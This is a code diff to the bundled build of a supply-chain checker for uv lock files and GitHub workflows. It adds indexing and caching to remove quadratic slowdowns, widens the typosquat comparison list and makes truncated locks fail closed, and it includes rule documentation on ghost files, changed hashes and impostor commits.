@@ -10764,6 +10764,7 @@ function artifactsOf(pkg) {
 
 
 const SIMPLE_JSON = 'application/vnd.pypi.simple.v1+json';
+const DEFAULT_INDEX_CONCURRENCY = 32;
 /** Less time than this left in the budget: do not start a request. */
 const MIN_USEFUL_MS = 20;
 const SIMPLE_ACCEPT = `${SIMPLE_JSON}, application/vnd.pypi.simple.v1+html;q=0.2, text/html;q=0.01`;
@@ -10869,7 +10870,7 @@ class IndexClient {
         this.log = options.log ?? (() => { });
         this.options = {
             budgetMs: Math.max(0, options.budgetMs),
-            concurrency: Math.max(1, options.concurrency ?? 8),
+            concurrency: Math.max(1, options.concurrency ?? DEFAULT_INDEX_CONCURRENCY),
             timeoutMs: Math.max(1, options.timeoutMs ?? 15_000),
             retries: Math.max(0, options.retries ?? 3),
             maxRetryAfterMs: Math.max(0, options.maxRetryAfterMs ?? 30_000),
@@ -12712,6 +12713,13 @@ function stringify(obj, { maxDepth = 1000, numbersAsFloat = false, strictTempora
  */
 
 const BARE_KEY_RE = /^[A-Za-z0-9_-]+$/;
+/**
+ * Prefixes of one dotted key or table header that get their own index entry. Every prefix is a
+ * string as long as the key so far, so indexing all of them is quadratic in the number of segments:
+ * a 100 KB key of 50,000 segments took seconds. Real keys have a handful; deeper prefixes resolve
+ * through `lineOf`'s ancestor fallback, and the full key is still indexed.
+ */
+const MAX_INDEXED_PREFIXES = 128;
 /** One path segment as the index spells it. */
 function keySegment(key) {
     return BARE_KEY_RE.test(key) ? key : JSON.stringify(key);
@@ -13086,7 +13094,7 @@ class PositionScanner {
             if (last) {
                 this.lines.set(resolved, line);
             }
-            else {
+            else if (i < MAX_INDEXED_PREFIXES) {
                 this.setIfAbsent(resolved, line);
                 const count = this.tableArrays.get(resolved);
                 if (count !== undefined)
@@ -13169,7 +13177,7 @@ class PositionScanner {
             path = path === '' ? segments[i] : `${path}.${segments[i]}`;
             if (i === segments.length - 1)
                 sink.set(path, line);
-            else
+            else if (i < MAX_INDEXED_PREFIXES)
                 sink.setIfAbsent(path, line);
         }
         this.skipBlank(false);
@@ -13472,7 +13480,42 @@ function compareVersions(a, b) {
     return a < b ? -1 : a > b ? 1 : 0;
 }
 function versionsEqual(a, b) {
-    return a === b || compareVersions(a, b) === 0;
+    return a === b || versionKey(a) === versionKey(b);
+}
+const KEY_CACHE_LIMIT = 100_000;
+const keyCache = new Map();
+/**
+ * A string that two versions share exactly when `compareVersions` finds them equal: for PEP 440
+ * versions the parsed parts with trailing release zeros dropped (what the library compares), for
+ * anything else the string itself, marked so it never equals a valid version's key. Memoized, so
+ * equality costs a map look-up, and candidates can be indexed by it (a hostile lock may hold
+ * thousands of entries of one name; comparing each edge against each entry was quadratic).
+ */
+function versionKey(version) {
+    let key = keyCache.get(version);
+    if (key !== undefined)
+        return key;
+    key = computeVersionKey(version);
+    if (keyCache.size >= KEY_CACHE_LIMIT)
+        keyCache.clear();
+    keyCache.set(version, key);
+    return key;
+}
+function computeVersionKey(version) {
+    if (!isPep440(version))
+        return `\0${version}`;
+    try {
+        const parts = (0,pep440.parse)(version);
+        if (!parts)
+            return `\0${version}`;
+        const release = [...parts.release];
+        while (release.length > 0 && release[release.length - 1] === 0)
+            release.pop();
+        return JSON.stringify([parts.epoch, release, parts.pre, parts.post, parts.dev, parts.local]);
+    }
+    catch {
+        return `\0${version}`;
+    }
 }
 
 ;// CONCATENATED MODULE: ./src/uv/values.ts
@@ -14027,6 +14070,55 @@ function describeSource(source) {
             return `${source.kind} ${source.path}`;
     }
 }
+/** At or below this many entries of one name, a scan is cheaper than an index. */
+const SCAN_CANDIDATES = 8;
+/**
+ * The locked entries a dependency edge names (`{ name, version?, source? }`), in lock order. Names
+ * locked many times are answered from indexes built on first use: a lock may hold thousands of
+ * entries of one name, and a scan per edge made reading it quadratic (4,000 entries: 37 s).
+ */
+class LockedCandidates {
+    byName;
+    indexes = new Map();
+    constructor(byName) {
+        this.byName = byName;
+    }
+    matching(name, version, source) {
+        const all = this.byName.get(name);
+        if (!all)
+            return [];
+        if (all.length <= SCAN_CANDIDATES) {
+            const wantedSource = source === undefined ? undefined : sourceKey(source);
+            return all.filter((candidate) => (version === undefined || (candidate.version !== undefined && versionsEqual(candidate.version, version))) &&
+                (wantedSource === undefined || sourceKey(candidate.source) === wantedSource));
+        }
+        if (version === undefined && source === undefined)
+            return [...all];
+        const by = version === undefined ? 's' : source === undefined ? 'v' : 'vs';
+        const keyOf = (v, s) => {
+            if (by !== 's' && v === undefined)
+                return undefined; // an entry without a version never matches a versioned edge
+            return by === 's' ? sourceKey(s) : by === 'v' ? versionKey(v) : `${versionKey(v)}\0${sourceKey(s)}`;
+        };
+        const indexName = `${by}\0${name}`;
+        let index = this.indexes.get(indexName);
+        if (!index) {
+            index = new Map();
+            for (const candidate of all) {
+                const key = keyOf(candidate.version, candidate.source);
+                if (key === undefined)
+                    continue;
+                const list = index.get(key);
+                if (list)
+                    list.push(candidate);
+                else
+                    index.set(key, [candidate]);
+            }
+            this.indexes.set(indexName, index);
+        }
+        return [...(index.get(keyOf(version, source)) ?? [])];
+    }
+}
 /** Packages by name, in lock order. */
 function packagesByName(packages) {
     const byName = new Map();
@@ -14056,6 +14148,7 @@ function checkDuplicates(packages, byName, packageKey) {
 }
 /** Every edge must name a package the lock has, unambiguously (UnrecognizedDependency, MissingDependencyVersion/Source). */
 function checkDependencies(packages, byName, packageKey) {
+    const locked = new LockedCandidates(byName);
     packages.forEach((pkg, index) => {
         // The edge's key path is built only for an error.
         const check = (dependency, section, group, j) => {
@@ -14066,8 +14159,7 @@ function checkDependencies(packages, byName, packageKey) {
             }
             if (candidates.length === 1 && dependency.version === undefined && dependency.source === undefined)
                 return;
-            const matches = candidates.filter((candidate) => (dependency.version === undefined || (candidate.version !== undefined && versionsEqual(candidate.version, dependency.version))) &&
-                (dependency.source === undefined || sourceKey(candidate.source) === sourceKey(dependency.source)));
+            const matches = locked.matching(dependency.name, dependency.version, dependency.source);
             if (matches.length === 0) {
                 throw new LockReadError(`has package \`${pkg.name}\` depending on \`${dependency.name}\`${dependency.version ? ` ${dependency.version}` : ''}, which the lock does not contain`, where());
             }
@@ -17216,12 +17308,26 @@ class SyncChecker {
             this.undecidable(member, what, 'the project refers to its own extras and has a dynamic version; uv also accepts the flattened form a build backend writes, which lockgate does not reproduce', expected.requirements[0].file, expected.requirements.find((req) => req.name === options.selfName)?.line);
             return;
         }
+        // By name, in the lock's order: with thousands of differences, scanning the lists for each one
+        // was quadratic.
+        const extra = new Set(result.extra);
+        const actualByName = new Map();
+        for (const other of actual.requirements) {
+            if (!extra.has(other))
+                continue;
+            const list = actualByName.get(other.name);
+            if (list)
+                list.push(other);
+            else
+                actualByName.set(other.name, [other]);
+        }
+        const missingNames = new Set(result.missing.map((req) => req.name));
         for (const req of result.missing) {
-            const sameName = actual.requirements.filter((other) => other.name === req.name && result.extra.includes(other));
+            const sameName = actualByName.get(req.name) ?? [];
             this.mismatch(member, what, req.display, sameName.length ? sameName.map(describeRequirement).join(' | ') : '(not recorded)', req.file, req.line);
         }
         for (const req of result.extra) {
-            if (result.missing.some((other) => other.name === req.name))
+            if (missingNames.has(req.name))
                 continue;
             this.mismatch(member, what, '(absent)', describeRequirement(req), req.file, req.line);
         }
@@ -17339,11 +17445,12 @@ class SyncChecker {
             else
                 byName.set(pkg.name, [pkg]);
         }
+        const locked = new LockedCandidates(byName);
         const resolve = (dep) => {
             const candidates = byName.get(dep.name) ?? [];
             if (candidates.length === 1)
                 return candidates[0];
-            return candidates.find((candidate) => (dep.version === undefined || (candidate.version !== undefined && versionsEqual(candidate.version, dep.version))) && (dep.source === undefined || sourceKey(candidate.source) === sourceKey(dep.source)));
+            return locked.matching(dep.name, dep.version, dep.source)[0];
         };
         const indexes = this.configuredIndexes();
         const queue = [];
@@ -18065,6 +18172,27 @@ function lockCutoffBreaches(pair, headTime) {
     }
     return breaches;
 }
+/** Base entries by normalized name, built once a lock: a scan per breach was quadratic (20,000 breaches: 8 s). */
+const baseIndex = new WeakMap();
+function baseEntriesNamed(baseLock, name) {
+    let cached = baseIndex.get(baseLock);
+    if (!cached || cached.packages !== baseLock.packages || cached.length !== baseLock.packages.length) {
+        const byName = new Map();
+        for (const basePkg of baseLock.packages) {
+            if (!basePkg || typeof basePkg.name !== 'string')
+                continue;
+            const key = normalizeName(basePkg.name);
+            const list = byName.get(key);
+            if (list)
+                list.push(basePkg);
+            else
+                byName.set(key, [basePkg]);
+        }
+        cached = { packages: baseLock.packages, length: baseLock.packages.length, byName };
+        baseIndex.set(baseLock, cached);
+    }
+    return cached.byName.get(name) ?? [];
+}
 function breachedAtBase(baseLock, pkg, artifact, headTime) {
     if (!Array.isArray(baseLock.packages))
         return false;
@@ -18073,8 +18201,8 @@ function breachedAtBase(baseLock, pkg, artifact, headTime) {
     const cutoff = lockCutoffFor(baseLock.options, pkg.name, headTime);
     if (cutoff.kind !== 'cutoff')
         return false;
-    for (const basePkg of baseLock.packages) {
-        if (!basePkg || typeof basePkg.name !== 'string' || normalizeName(basePkg.name) !== name || basePkg.version !== pkg.version)
+    for (const basePkg of baseEntriesNamed(baseLock, name)) {
+        if (basePkg.version !== pkg.version)
             continue;
         for (const { artifact: baseArtifact } of breachingArtifacts(basePkg, cutoff.ms)) {
             if (artifactFilename(baseArtifact) === filename)
@@ -18242,10 +18370,15 @@ const cooldown_rule = {
             // One finding per entry: a young entry that also breaks the lock's cutoff says both. A waived
             // young entry keeps its breach separate, since an exemption does not excuse a hand-made lock.
             const told = new Set();
+            // By package: a find per young entry was quadratic on a lock of thousands of new packages.
+            const breachOf = new Map();
+            for (const b of breaches)
+                if (!breachOf.has(b.pkg))
+                    breachOf.set(b.pkg, b);
             for (const check of checks) {
                 if (!check.young)
                     continue;
-                const breach = check.waiver.waiver ? undefined : breaches.find((b) => b.pkg === check.entry.package);
+                const breach = check.waiver.waiver ? undefined : breachOf.get(check.entry.package);
                 if (breach)
                     told.add(breach);
                 findings.push(youngFinding(pair, check, context, breach));
@@ -18576,8 +18709,28 @@ function namesWithSources(pyprojects) {
 function lockedEntries(lock, name) {
     if (!lock || !Array.isArray(lock.packages))
         return [];
-    const normalized = normalizeName(name);
-    return lock.packages.filter((pkg) => pkg && typeof pkg.name === 'string' && normalizeName(pkg.name) === normalized);
+    return [...(entriesByName(lock).get(normalizeName(name)) ?? [])];
+}
+/** Lock entries by normalized name, built once a lock: a scan per requirement was quadratic. */
+const byNameCache = new WeakMap();
+function entriesByName(lock) {
+    const cached = byNameCache.get(lock);
+    // Locks are not changed after loading; a test that builds one by hand and edits it gets a fresh index.
+    if (cached && cached.packages === lock.packages && cached.length === lock.packages.length)
+        return cached.index;
+    const index = new Map();
+    for (const pkg of lock.packages) {
+        if (!pkg || typeof pkg.name !== 'string')
+            continue;
+        const key = normalizeName(pkg.name);
+        const list = index.get(key);
+        if (list)
+            list.push(pkg);
+        else
+            index.set(key, [pkg]);
+    }
+    byNameCache.set(lock, { packages: lock.packages, length: lock.packages.length, index });
+    return index;
 }
 /** A git URL for comparison: no credentials, no `git+`, no query or fragment, no `.git`, no trailing slash, lower-case host. */
 function canonicalGitUrl(url) {
@@ -19492,7 +19645,7 @@ function matchSeverity(match) {
 
 const RULE_ID = 'typosquat';
 /** Compare against this many of the most downloaded names unless `typosquat.top` says otherwise. */
-const DEFAULT_TOP = 5000;
+const DEFAULT_TOP = 15000;
 /** A package first uploaded less than this long before now is "very young". */
 const YOUNG_DAYS = 30;
 const DAY_MS = 24 * 60 * 60 * 1000;
@@ -20564,7 +20717,7 @@ function envValue(node, key) {
  * in step / job / workflow `env:`, or written to $GITHUB_ENV by an earlier step of the job. A value
  * that is an expression counts as set: it states the intent, and its value is unknown here.
  */
-function lockedByEnv(rc, earlierScripts) {
+function lockedByEnv(rc, setByEarlierStep) {
     const truthy = (value) => value !== undefined && (TRUTHY.test(value.trim()) || value.includes('${{'));
     for (const key of ['UV_LOCKED', 'UV_FROZEN']) {
         if (truthy(rc.env.get(key)))
@@ -20576,8 +20729,28 @@ function lockedByEnv(rc, earlierScripts) {
         if (rc.wf.kind === 'workflow' && truthy(envValue(get(rc.wf.doc.contents, 'env'), key)))
             return true;
     }
-    const toGithubEnv = /\bUV_(?:LOCKED|FROZEN)=["']?(?:1|true|yes|y|on|t)\b[^\n]*>>\s*["']?\$\{?GITHUB_ENV\b/i;
-    return earlierScripts.some((script) => toGithubEnv.test(script));
+    return setByEarlierStep(rc);
+}
+const TO_GITHUB_ENV_RE = /\bUV_(?:LOCKED|FROZEN)=["']?(?:1|true|yes|y|on|t)\b[^\n]*>>\s*["']?\$\{?GITHUB_ENV\b/i;
+/**
+ * Whether a step of the same job before this command's step writes UV_LOCKED / UV_FROZEN to
+ * $GITHUB_ENV. The first such step of each job is found once: collecting the earlier steps for every
+ * uv command was quadratic in the steps of a job (8,000 `uv sync` steps: 1.6 s).
+ */
+function earlierStepSetsLock(commands) {
+    let firstSetter = null;
+    return (rc) => {
+        if (firstSetter === null) {
+            firstSetter = new Map();
+            for (const c of commands) {
+                const first = firstSetter.get(c.job);
+                if ((first === undefined || c.stepIndex < first) && TO_GITHUB_ENV_RE.test(stepRunText(c)))
+                    firstSetter.set(c.job, c.stepIndex);
+            }
+        }
+        const first = firstSetter.get(rc.job);
+        return first !== undefined && first < rc.stepIndex;
+    };
 }
 /** uv global options that take a value (so the subcommand is found after them). */
 const UV_GLOBAL_WITH_VALUE = new Set([
@@ -20636,6 +20809,7 @@ function checkUvUnlocked(workflows, severity = 'warning') {
     for (const wf of workflows) {
         const flagged = [];
         const commands = runCommands(wf);
+        const setByEarlierStep = earlierStepSetsLock(commands);
         for (const rc of commands) {
             const uv = uvInvocation(rc.name, rc.args);
             if (!uv || !['sync', 'run', 'export'].includes(uv.subcommand))
@@ -20651,8 +20825,7 @@ function checkUvUnlocked(workflows, severity = 'warning') {
                 if (options.some((o) => o === '--script' || o === '--no-project' || o === '--no-sync' || o === '--gui-script'))
                     continue;
             }
-            const earlier = [...new Set(commands.filter((c) => c.job === rc.job && c.stepIndex < rc.stepIndex).map((c) => stepRunText(c)))];
-            if (lockedByEnv(rc, earlier))
+            if (lockedByEnv(rc, setByEarlierStep))
                 continue;
             flagged.push({ rc, text: commandText(rc), sub: uv.subcommand, upgrade: options.some((o) => /^(--upgrade|-U|--upgrade-package|-P)(=|$)/.test(o)) });
         }
@@ -22690,7 +22863,7 @@ function defaultConfig() {
         rules: {},
         ignore: [],
         workflows: { allowRefPin: [] },
-        typosquat: { allow: [], top: 5000 },
+        typosquat: { allow: [], top: 15000 },
         requirements: { pin: 'direct' },
         limits: { ...DEFAULT_LIMITS },
         exclude: [],
@@ -23206,7 +23379,7 @@ function symlinkTargetInRepo(linkPath, target) {
     const resolved = external_node_path_namespaceObject.posix.normalize(external_node_path_namespaceObject.posix.join(external_node_path_namespaceObject.posix.dirname(linkPath), target));
     return resolved.startsWith('../') || resolved === '..' ? null : resolved;
 }
-function loadRevision(repo, sha, maxBytes) {
+function loadRevision(repo, sha, maxBytes, blobCache = new Map()) {
     const entries = new Map();
     const listing = git(repo.root, ['ls-tree', '-r', '-l', '-z', '--full-tree', sha]).toString('utf8');
     for (const record of listing.split('\0')) {
@@ -23239,8 +23412,9 @@ function loadRevision(repo, sha, maxBytes) {
         else
             wanted.set(path, entry.blob);
     }
-    if (wanted.size > 0) {
-        const blobs = [...new Set(wanted.values())];
+    const missing = [...new Set(wanted.values())].filter((blob) => !blobCache.has(blob));
+    if (missing.length > 0) {
+        const blobs = missing;
         const out = git(repo.root, ['cat-file', '--batch'], blobs.join('\n') + '\n');
         const contents = new Map();
         let offset = 0;
@@ -23251,13 +23425,15 @@ function loadRevision(repo, sha, maxBytes) {
             contents.set(blob, out.subarray(newline + 1, newline + 1 + size));
             offset = newline + 1 + size + 1;
         }
-        for (const [path, blob] of wanted) {
-            const decoded = decodeText(contents.get(blob) ?? Buffer.alloc(0));
-            if ('text' in decoded)
-                texts.set(path, decoded.text);
-            else
-                unreadable.set(path, decoded.reason);
-        }
+        for (const blob of blobs)
+            blobCache.set(blob, decodeText(contents.get(blob) ?? Buffer.alloc(0)));
+    }
+    for (const [path, blob] of wanted) {
+        const decoded = blobCache.get(blob);
+        if ('text' in decoded)
+            texts.set(path, decoded.text);
+        else
+            unreadable.set(path, decoded.reason);
     }
     const time = new Date(git(repo.root, ['show', '-s', '--format=%cI', sha]).toString('utf8').trim());
     return { label: sha, paths, texts, unreadable, time };
@@ -23336,6 +23512,26 @@ function loadWorktree(repo, maxBytes, now) {
     return { label: 'WORKTREE', paths: present, texts, unreadable, time: now };
 }
 
+;// CONCATENATED MODULE: ./src/source/parse-cache.ts
+/**
+ * Parse results shared by the base and head loads of one run. A change touches a few files; every
+ * other file has the same path and text at both revisions, and parsing it twice was a third of a
+ * base..head check. Results are shared, not copied: parsers and rules never mutate them.
+ */
+class ParseCache {
+    entries = new Map();
+    /** The result of `parse` for this kind, path and text, computed once. */
+    get(kind, path, text, parse) {
+        const key = `${kind}\0${path}`;
+        const hit = this.entries.get(key);
+        if (hit !== undefined && hit.text === text)
+            return hit.value;
+        const value = parse();
+        this.entries.set(key, { text, value });
+        return value;
+    }
+}
+
 ;// CONCATENATED MODULE: ./src/uv/diff.ts
 
 
@@ -23386,7 +23582,7 @@ function isWorkspaceEntry(pkg, members) {
     return (pkg.source.kind === 'editable' || pkg.source.kind === 'virtual') && members.has(pkg.name);
 }
 /** Lock entries that are packages from somewhere (not the project's own members), grouped by name. */
-function entriesByName(project, members) {
+function diff_entriesByName(project, members) {
     const out = new Map();
     for (const pkg of project?.lock?.packages ?? []) {
         if (isWorkspaceEntry(pkg, members))
@@ -23415,8 +23611,8 @@ function diffProjects(base, head) {
     const members = workspaceMemberNames(head);
     for (const name of workspaceMemberNames(base))
         members.add(name);
-    const baseEntries = entriesByName(base, members);
-    const headEntries = entriesByName(head, members);
+    const baseEntries = diff_entriesByName(base, members);
+    const headEntries = diff_entriesByName(head, members);
     const names = [...new Set([...baseEntries.keys(), ...headEntries.keys()])].sort();
     const details = [];
     const introduced = [];
@@ -23655,6 +23851,7 @@ function isPyprojectError(value) {
 
 
 
+
 const PYPROJECT = 'pyproject.toml';
 const UV_LOCK = 'uv.lock';
 const UV_TOML = 'uv.toml';
@@ -23666,6 +23863,7 @@ function baseName(path) {
 }
 function loadUvProjects(files, limits, options = {}) {
     const invalid = [];
+    const cache = options.cache ?? new ParseCache();
     const paths = new Set();
     for (const path of files.paths ?? [])
         paths.add(path);
@@ -23708,7 +23906,7 @@ function loadUvProjects(files, limits, options = {}) {
         const text = textOf(path);
         if (text === undefined)
             continue;
-        const parsed = toml_parseToml(path, text);
+        const parsed = cache.get('toml', path, text, () => toml_parseToml(path, text));
         if (!parsed.ok) {
             reportInvalid(path, parsed.line, `${path} is not valid TOML (${parsed.message}); uv cannot read it and lockgate did not check it.`, 'toml:syntax', 'Fix the TOML syntax at this line.', parsed.column);
             continue;
@@ -23771,7 +23969,7 @@ function loadUvProjects(files, limits, options = {}) {
         if (hasUvToml) {
             const text = textOf(uvTomlFile);
             if (text !== undefined) {
-                const parsed = toml_parseToml(uvTomlFile, text);
+                const parsed = cache.get('toml', uvTomlFile, text, () => toml_parseToml(uvTomlFile, text));
                 if (parsed.ok)
                     project.uvToml = { file: uvTomlFile, raw: parsed.value, lines: parsed.lines };
                 else
@@ -23782,7 +23980,7 @@ function loadUvProjects(files, limits, options = {}) {
             project.lockState = 'invalid';
             const text = textOf(lockFile);
             if (text !== undefined) {
-                const result = readLock(lockFile, text, limits);
+                const result = cache.get('lock', lockFile, text, () => readLock(lockFile, text, limits));
                 if ('error' in result) {
                     const syntax = result.error.message.startsWith('is not valid TOML');
                     reportInvalid(lockFile, result.error.line, `${lockFile} ${result.error.message}; uv ${syntax ? 'cannot read it' : 'refuses such a lock'}, and lockgate did not check its packages.`, syntax ? 'toml:syntax' : 'lock:structure', 'Regenerate the lock with `uv lock` and commit it.', result.error.column);
@@ -23791,9 +23989,12 @@ function loadUvProjects(files, limits, options = {}) {
                     project.lock = result.lock;
                     project.lockState = 'ok';
                     if (result.truncated) {
-                        invalid.push(makeFinding({
+                        invalid.push(
+                        // An error, not a notice: the packages past the limit go unchecked, and padding a
+                        // lock past it must not pass a gate that fails on errors (fail closed).
+                        makeFinding({
                             rule: 'invalid-file',
-                            severity: 'notice',
+                            severity: 'error',
                             file: lockFile,
                             line: result.truncated.line,
                             message: `${lockFile} ${result.truncated.message}.`,
@@ -24266,12 +24467,14 @@ function resolveAliasesInPlace(doc, limits, posAt) {
 
 
 
+
 const TOO_LARGE_FOR_ANY_LIMIT = `Workflow YAML over ${MAX_WORKFLOW_BYTES} bytes is never parsed, whatever the limits say: split the file (reusable workflows, composite actions).`;
 /**
  * Discovery: `.github/workflows/*.yml|yaml` (top level only, as GitHub reads them), `action.yml|yaml`
  * anywhere (composite, Docker and JavaScript actions), `.github/dependabot.yml|yaml`.
  */
-function loadWorkflows(files, limits) {
+function loadWorkflows(files, limits, options = {}) {
+    const cache = options.cache ?? new ParseCache();
     const workflows = [];
     const invalid = [];
     const candidates = new Set();
@@ -24301,7 +24504,7 @@ function loadWorkflows(files, limits) {
             }));
             continue;
         }
-        const outcome = parseWorkflow(path, kind, text, limits);
+        const outcome = cache.get('workflow', path, text, () => parseWorkflow(path, kind, text, limits));
         if (outcome.ok) {
             workflows.push(outcome.workflow);
             continue;
@@ -24332,6 +24535,7 @@ function loadWorkflows(files, limits) {
  * The pipeline: settings -> source -> parse -> model -> enrich -> rules -> policy -> report.
  * I/O happens here and in the enrichers only; everything the rules see is already in memory.
  */
+
 
 
 
@@ -24423,8 +24627,9 @@ function readRevisions(settings) {
     const maxBytes = settings.config.limits.maxFileBytes;
     const headSha = settings.head === null ? null : resolveRevision(repo, settings.head);
     const baseSha = settings.base === null ? null : resolveRevision(repo, settings.base);
-    const head = headSha === null ? loadWorktree(repo, maxBytes, settings.now) : loadRevision(repo, headSha, maxBytes);
-    const base = baseSha === null ? null : loadRevision(repo, baseSha, maxBytes);
+    const blobs = new Map();
+    const head = headSha === null ? loadWorktree(repo, maxBytes, settings.now) : loadRevision(repo, headSha, maxBytes, blobs);
+    const base = baseSha === null ? null : loadRevision(repo, baseSha, maxBytes, blobs);
     return { repo, head, base };
 }
 async function runLockgate(initial) {
@@ -24439,10 +24644,12 @@ async function runLockgate(initial) {
     }
     head = withoutExcluded(head, settings.config.exclude);
     base = base && withoutExcluded(base, settings.config.exclude);
-    const headUv = loadUvProjects(head, limits);
-    const baseUv = base ? loadUvProjects(base, limits) : null;
-    const headWorkflows = loadWorkflows(head, limits);
-    const baseWorkflows = base ? loadWorkflows(base, limits) : null;
+    // Most files are the same at base and head: each distinct file is parsed once.
+    const cache = new ParseCache();
+    const headUv = loadUvProjects(head, limits, { cache });
+    const baseUv = base ? loadUvProjects(base, limits, { cache }) : null;
+    const headWorkflows = loadWorkflows(head, limits, { cache });
+    const baseWorkflows = base ? loadWorkflows(base, limits, { cache }) : null;
     const projects = pairProjects(baseUv?.projects ?? null, headUv.projects).filter((pair) => inScope(pair.path, settings.scope));
     const context = {
         settings,
@@ -24796,11 +25003,17 @@ function changeSections(result) {
         .filter((project) => project.changes.length > 0)
         .map((project) => {
         const pair = result.pairs.find((p) => p.path === project.path && p.lockFile === project.lock);
-        const headPackages = pair?.head?.lock?.packages ?? [];
+        // By name and version: a find per change was quadratic on a lock of thousands of changes.
+        const headPackages = new Map();
+        for (const pkg of pair?.head?.lock?.packages ?? []) {
+            const key = `${pkg.name}\0${pkg.version ?? ''}`;
+            if (!headPackages.has(key))
+                headPackages.set(key, pkg);
+        }
         const title = project.path ? `${codeSpan(project.path)} (${codeSpan(project.lock)})` : codeSpan(project.lock);
         const head = `\n#### ${title} · ${project.changes.length} ${project.changes.length === 1 ? 'change' : 'changes'}\n\n| Package | Change | From → to | Age | Source |\n|---|---|---|---|---|`;
         const entries = project.changes.map((change) => {
-            const locked = change.to ? headPackages.find((p) => p.name === change.name && p.version === change.to) : undefined;
+            const locked = change.to ? headPackages.get(`${change.name}\0${change.to}`) : undefined;
             const age = change.kind === 'removed' ? '—' : formatAge(newestUpload(locked), nowMs);
             const versions = `${change.from ? cell(change.from) : '—'} → ${change.to ? cell(change.to) : '—'}`;
             return `| ${cell(change.name)} | ${escapeText(change.kind)} | ${versions} | ${age} | ${sourceText(change)} |`;
@@ -24922,7 +25135,7 @@ const RULE_DOCS = {
     "ghost-file": "# ghost-file\n\nDefault severity: **error**. Online only.\n\nA locked file is no longer listed by its index.\n\n## What it reports\n\nFor each entry this change brings into `uv.lock`, what the package index no longer has:\n\n- the project (404: removed, renamed, or quarantined);\n- the locked version (absent from the index's version list);\n- locked files (by filename), or a file listed with another sha256 than the lock pins.\n\nThe index is asked with the PEP 691 JSON API (PEP 700 `versions`), PyPI's JSON API, or a PEP 503\nHTML page (files only: such pages have no version list).\n\n## Why\n\nDeleting a project or file on PyPI removes its database rows, not the stored files, so the URLs\nin a lock keep downloading, and uv installs from the lock without asking the index: the \"ghost\"\nstays installable. Removals are often malware takedowns, and a file whose hash differs from what\nthe index serves is not the file the index publishes.\n\n## How to fix\n\nFind out why it was removed before installing it again. Then re-resolve or drop it:\n\n```sh\nuv lock --upgrade-package httpx\nuv remove httpx\n```\n\n## How to ignore\n\nA config `ignore:` entry (with `package:`, a reason and `until`), or\n`# lockgate: ignore[ghost-file]` on the line above the package or file in `uv.lock`.\n\n## Example\n\n```\nuv.lock:33 error ghost-file: httpx 0.28.1 on https://pypi.org/simple: 1 of its 2 locked files are\nno longer listed (httpx-0.28.1.tar.gz). Files deleted from an index usually stay downloadable from\nits file host, so uv keeps installing what the lock names; a removal is often a malware takedown.\n```\n",
     "hash-changed": "# hash-changed\n\nDefault severity: **error**.\n\nThe same version from the same source is locked with different artifacts or hashes.\n\n## What it reports\n\nA package whose name, version and source are the same at base and head, but where a file locked\nat both sides (same filename: the sdist or a wheel) has a different digest of the same algorithm.\nThe finding points at that file's line in `uv.lock` and names the file and both digests.\n\nNot reported: new files for the same release (a wheel for a new platform uploaded later), files\nthat are no longer locked, a digest that moves to another algorithm (it cannot be compared byte\nfor byte), and whitespace, ordering or key-order changes of the lock.\n\n## Why\n\nA published file never changes: PyPI refuses to reuse a filename, and a direct URL or path source\nis locked by its hash precisely so that its bytes cannot change unnoticed. A new digest for the\nsame file means the lock was edited by hand, the file at a URL was replaced, or an index served\ndifferent bytes. Each of these is how a tampered package gets installed under a trusted version.\n\n## How to fix\n\nDo not merge until you know why. Restore the previous entry and re-lock:\n\n```sh\ngit checkout <base> -- uv.lock\nuv lock\n```\n\nIf `uv lock` writes the new digest again, the index (or the URL) now serves different bytes: ask\nits owner, and compare with the file you had before.\n\n## How to ignore\n\nA config entry, limited to the package, with a reason and an expiry (a comment in `uv.lock` does\nnot survive the next `uv lock`):\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: hash-changed\n    package: internal-tool\n    reason: our private index rebuilt 1.4.0 after the signing-key rotation (ticket SEC-142)\n    until: 2026-10-01\n```\n\nOr `# lockgate: ignore[hash-changed]` on the file's line or the line above.\n\n## Example\n\n```\nuv.lock:21 error hash-changed: charset-normalizer 3.3.2 from registry https://pypi.org/simple is\nlocked with other bytes for charset_normalizer-3.3.2-py3-none-any.whl: sha256:a1f0c79cbf8d3e64…\nbecame sha256:d121be3103007b41…. A published file never changes, …\n```\n",
     "impostor-commit": "# impostor-commit\n\nDefault severity: **error**. Needs the network (GitHub API); silent offline.\n\nA pinned SHA is not reachable from the action repository's branches or tags.\n\n## What it reports\n\nA `uses:` pinned to a full commit SHA (steps, composite action steps, reusable-workflow jobs) when\nGitHub shows the commit is on none of `owner/repo`'s branches or tags. lockgate checks, in\nzizmor's order: whether the SHA is the tip of a tag or branch; whether it is in the history of the\ndefault branch (`GET /repos/{owner}/{repo}/compare/{default}...{sha}` is `behind` or `identical`);\nthen the same comparison against the other branches and the tags (at most 20 comparisons, and\n300 tags / 300 branches listed). Only a complete search that finds nothing is reported; an\ninconclusive search (a very large repository, a rate limit, the network budget) reports nothing and\nsays so in the run log.\n\n## Why\n\nGitHub serves the commits of every fork through the parent repository: anyone can fork\n`actions/checkout`, push a malicious commit to the fork, and `uses: actions/checkout@<that sha>`\nruns it, under the trusted name. Such an \"impostor commit\" looks exactly like a proper pin in review.\nA SHA that no branch or tag of the real repository contains was never published by its owners.\n\n## How to fix\n\nPin a commit the repository itself published, normally a release tag's commit:\n\n```sh\ngh api repos/actions/checkout/tags --jq '.[] | .name + \" \" + .commit.sha' | head\n```\n\n```yaml\n      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n```\n\nThen find out how the impostor SHA got into the workflow: treat it as a possible attack.\n\n## How to ignore\n\nOn the `uses:` line or the line above it (only for a commit you verified, such as one on a branch\nthat was deleted after a merge):\n\n```yaml\n      # lockgate: ignore[impostor-commit] squash-merged PR commit, verified by @maintainer\n      - uses: my-org/action@0c45773b623bea8c8e75f6c82b208c3cf94ea4f9\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: impostor-commit\n    path: .github/workflows/deploy.yml\n    until: 2026-12-31\n    reason: commit verified with the vendor, repin planned\n```\n\n## Example\n\n```yaml\non: push\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@ffffffffffffffffffffffffffffffffffffffff\n```\n\n```\nerror[impostor-commit] .github/workflows/ci.yml:8:15\n  Commit ffffffffffff is on no branch or tag of actions/checkout: GitHub serves commits of any fork\n  through the parent repository, so this pin can run code the owners never published.\n```\n",
